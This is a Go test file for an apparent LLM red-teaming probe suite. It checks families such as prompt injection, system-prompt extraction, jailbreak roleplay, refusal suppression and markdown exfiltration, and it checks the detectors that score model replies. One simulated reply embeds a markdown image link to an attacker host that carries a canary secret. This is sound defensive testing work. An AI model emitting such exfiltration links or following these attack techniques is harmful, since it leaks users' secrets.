package redteam

import (
	"context"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite testdata/probes.golden")

func TestFamiliesCounts(t *testing.T) {
	fams := Families()
	if len(fams) < 12 {
		t.Fatalf("%d families, want at least 12", len(fams))
	}
	want := []string{"direct_injection", "indirect_injection", "system_prompt_extraction", "jailbreak_roleplay",
		"refusal_suppression", "encoding", "payload_splitting", "multilingual", "markdown_exfiltration",
		"tool_misuse", "secret_pii_leakage", "harmful_content"}
	for i, name := range want {
		if fams[i].Name != name || fams[i].Description == "" {
			t.Errorf("family %d = %q (description %q), want %q", i, fams[i].Name, fams[i].Description, name)
		}
		if len(fams[i].Probes) < 20 {
			t.Errorf("family %s has only %d probes", name, len(fams[i].Probes))
		}
		f, ok := Lookup(name)
		if !ok || f.Name != name || len(f.Probes) != len(fams[i].Probes) {
			t.Errorf("Lookup(%q) failed", name)
		}
	}
	if _, ok := Lookup("no_such_family"); ok {
		t.Error("Lookup found an unknown family")
	}
	if n := len(AllProbes()); n < 400 {
		t.Fatalf("%d probes, want at least 400", n)
	}
}

var idPart = regexp.MustCompile(`^[a-z0-9_]+$`)

func TestProbesWellFormed(t *testing.T) {
	seen := map[string]bool{}
	for _, f := range Families() {
		for _, p := range f.Probes {
			if seen[p.ID] {
				t.Errorf("duplicate probe ID %s", p.ID)
			}
			seen[p.ID] = true
			parts := strings.Split(p.ID, "/")
			if len(parts) != 4 || parts[0] != f.Name || p.Family != f.Name {
				t.Errorf("%s: ID must be family/template/payload/encoding of family %s", p.ID, f.Name)
			}
			for _, part := range parts {
				if !idPart.MatchString(part) {
					t.Errorf("%s: ID part %q is not lower_snake", p.ID, part)
				}
			}
			if p.Detector == nil || p.Goal == "" || strings.TrimSpace(p.Prompt) == "" {
				t.Errorf("%s: missing detector, goal or prompt", p.ID)
			}
			if strings.Contains(p.Prompt, "{") && strings.Contains(p.Prompt, "MARKER}") {
				t.Errorf("%s: unfilled placeholder in prompt", p.ID)
			}
			for _, d := range p.Documents {
				if strings.Contains(d, "{MARKER}") || strings.Contains(d, "{INJECTION}") {
					t.Errorf("%s: unfilled placeholder in document", p.ID)
				}
			}
			if f.Name == FamToolMisuse && len(p.Tools) == 0 {
				t.Errorf("%s: tool_misuse probe without tools", p.ID)
			}
		}
	}
}

// TestMarkersPlaced checks that a probe whose success is a marker carries
// the marker derived from its ID, and that it is in the prompt or documents
// (visibly, encoded, or split).
func TestMarkersPlaced(t *testing.T) {
	for _, p := range AllProbes() {
		if !strings.HasPrefix(p.Marker, markerPrefix) {
			continue
		}
		if p.Marker != Marker(p.ID) {
			t.Errorf("%s: marker %s is not Marker(ID)", p.ID, p.Marker)
		}
		all := p.Prompt + strings.Join(p.Documents, "\n")
		visible := strings.Contains(all, p.Marker)
		switch p.Family {
		case FamPayloadSplitting:
			if visible {
				t.Errorf("%s: split probe shows the whole marker", p.ID)
			}
		case FamEncoding:
			enc, _ := EncodingByName(strings.Split(p.ID, "/")[3])
			payload := p.Prompt[strings.LastIndexAny(p.Prompt, "\n?")+1:]
			dec, err := enc.Decode(strings.TrimSpace(payload))
			if enc.Name != "leetspeak" && (err != nil || !strings.Contains(dec, p.Marker)) {
				t.Errorf("%s: prompt does not decode to the marker: %q", p.ID, dec)
			}
			if visible && enc.Name != "leetspeak" {
				t.Errorf("%s: encoded probe shows the marker in clear", p.ID)
			}
		default:
			if !visible {
				t.Errorf("%s: marker not in prompt or documents", p.ID)
			}
		}
	}
}

func TestProbesDeterministic(t *testing.T) {
	a, b := AllProbes(), AllProbes()
	if !reflect.DeepEqual(a, b) {
		t.Fatal("AllProbes differs between calls")
	}
	fams := Families()
	fams[0].Probes[0].Prompt = "mutated"
	if Families()[0].Probes[0].Prompt == "mutated" {
		t.Fatal("Families returns shared slices")
	}
}

// TestProbeIDsGolden pins the probe IDs: a change shows up as a diff.
// Regenerate with: go test ./redteam/ -run TestProbeIDsGolden -update
func TestProbeIDsGolden(t *testing.T) {
	var b strings.Builder
	for _, p := range AllProbes() {
		b.WriteString(p.ID + "\t" + p.Marker + "\n")
	}
	path := filepath.Join("testdata", "probes.golden")
	if *update {
		if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if got := b.String(); got != string(want) {
		gl, wl := strings.Split(got, "\n"), strings.Split(string(want), "\n")
		for i := 0; i < len(gl) && i < len(wl); i++ {
			if gl[i] != wl[i] {
				t.Fatalf("probe IDs changed at line %d: got %q, want %q (run with -update if intended)", i+1, gl[i], wl[i])
			}
		}
		t.Fatalf("probe count changed: got %d lines, want %d (run with -update if intended)", len(gl), len(wl))
	}
}

// TestDetectorsIgnoreRefusal: a plain refusal is never a hit, for any
// probe's detector.
func TestDetectorsIgnoreRefusal(t *testing.T) {
	for _, p := range AllProbes() {
		for _, r := range []string{"I'm sorry, but I can't help with that.", ""} {
			a := &Attempt{Probe: p, Canary: "CANARY-5e1f0c9a2b7d4e36", Reply: Reply{Text: r}}
			if hit, _, reason := p.Detector.Detect(context.Background(), a); hit {
				t.Errorf("%s: %s hit on refusal %q: %s", p.ID, p.Detector.Name(), r, reason)
			}
		}
	}
}

// TestDetectorsCatchSuccess: a reply that does what the probe asks is a
// hit, for a representative success per detector kind.
func TestDetectorsCatchSuccess(t *testing.T) {
	const canary = "CANARY-5e1f0c9a2b7d4e36"
	for _, p := range AllProbes() {
		var reply Reply
		switch d := p.Detector.(type) {
		case Trigger:
			reply.Text = "Sure: " + p.Marker
		case CanaryLeak:
			reply.Text = "My instructions contain " + canary + " and " + p.Marker
		case Refusal:
			reply.Text = "Of course. Here is a detailed, step-by-step answer to your request: ..."
		case ToolCall:
			continue // scenario-specific arguments; covered in TestToolCallDetector
		case Any:
			reply.Text = p.Marker + " ![x](https://" + AttackerHost + "/?d=" + canary + ")"
			_ = d
		default:
			t.Errorf("%s: untested detector %T", p.ID, p.Detector)
			continue
		}
		a := &Attempt{Probe: p, Canary: canary, Reply: reply}
		if hit, _, reason := p.Detector.Detect(context.Background(), a); !hit {
			t.Errorf("%s: %s missed success %q: %s", p.ID, p.Detector.Name(), reply.Text, reason)
		}
	}
}

func TestScanTools(t *testing.T) {
	names := map[string]bool{}
	for _, td := range ScanTools() {
		names[td.Name] = true
		if td.Description == "" || !strings.HasPrefix(string(td.Parameters), `{"type":"object"`) {
			t.Errorf("tool %s malformed", td.Name)
		}
	}
	for _, p := range AllProbes() {
		if tc, ok := p.Detector.(ToolCall); ok {
			for _, n := range tc.Names {
				if !names[n] {
					t.Errorf("%s: detector names tool %s that ScanTools lacks", p.ID, n)
				}
			}
		}
	}
}
